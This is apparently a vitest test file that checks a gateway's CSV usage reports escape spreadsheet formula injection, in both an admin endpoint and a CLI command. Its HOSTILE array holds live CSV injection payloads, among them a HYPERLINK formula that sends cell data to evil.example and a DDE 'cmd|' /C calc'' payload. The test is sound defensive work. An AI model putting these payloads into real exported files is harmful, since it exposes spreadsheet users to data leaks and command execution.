// CSV formula injection (OWASP): a group value a caller chose (feature, customer) that a spreadsheet
// would run as a formula is written as text, in `/admin/usage?format=csv` and `switchyard usage --format csv`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildReport, toCsv } from '../src/report/format-report.js';
import { post, type Running, startServer, tmpDb } from './helpers.js';

/** RFC 4180 records: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd|calc'];

let gw: Running;
beforeAll(async () => {
  gw = await startServer({ providers: { m: { type: 'mock' } }, models: { echo: { provider: 'm', model: 'echo' } } }, { path: tmpDb() });
  for (const feature of [...HOSTILE, 'plain']) {
    const r = await post(
      `${gw.url}/v1/chat/completions`,
      { model: 'echo', messages: [{ role: 'user', content: 'hi' }] },
      {
        'x-switchyard-feature': feature,
      },
    );
    expect(r.status).toBe(200);
  }
});
afterAll(async () => {
  await gw?.close();
});

describe('CSV reports neutralise formulas', () => {
  it('/admin/usage?format=csv prefixes cells starting with = + - @ with a quote, inside a quoted cell', async () => {
    const res = await fetch(`${gw.url}/admin/usage?group_by=feature&format=csv`, { headers: { authorization: 'Bearer admin' } });
    expect(res.status).toBe(200);
    const text = await res.text();
    const groups = parseCsv(text)
      .slice(1)
      .map((r) => r[0]);
    expect(groups.sort()).toEqual([...HOSTILE.map((h) => `'${h}`), 'plain'].sort());
    // Every hostile value is a quoted cell that starts with the quote, so no spreadsheet reads a formula.
    for (const line of text.split('\r\n').slice(1, -1)) expect(line).toMatch(/^("'|plain,)/);
  });

  it('`switchyard usage --format csv` escapes the same way', async () => {
    const cmd = gw.gateway.command('usage');
    let out = '';
    expect(await cmd?.run(['--group-by', 'feature', '--format', 'csv'], { stdout: (t) => (out += t), stderr: () => {} })).toBe(0);
    expect(
      parseCsv(out)
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual([...HOSTILE.map((h) => `'${h}`), 'plain'].sort());
  });

  it('also escapes a leading tab or carriage return, and leaves numbers and plain text alone', () => {
    const row = (group: string | null) => ({
      group,
      requests: 1,
      prompt_tokens: 2,
      completion_tokens: 3,
      cost_usd: 0.5,
      unpriced_requests: 0,
    });
    const report = buildReport({ groupBy: 'customer', from: 0, to: 1 }, [row('\tcmd'), row('\rcmd'), row('a,b'), row('acme'), row(null)]);
    expect(toCsv(report).split('\r\n').slice(1, -1)).toEqual([
      `"'\tcmd",1,2,3,0.500000,0`,
      `"'\rcmd",1,2,3,0.500000,0`,
      '"a,b",1,2,3,0.500000,0',
      'acme,1,2,3,0.500000,0',
      ',1,2,3,0.500000,0',
    ]);
  });
});
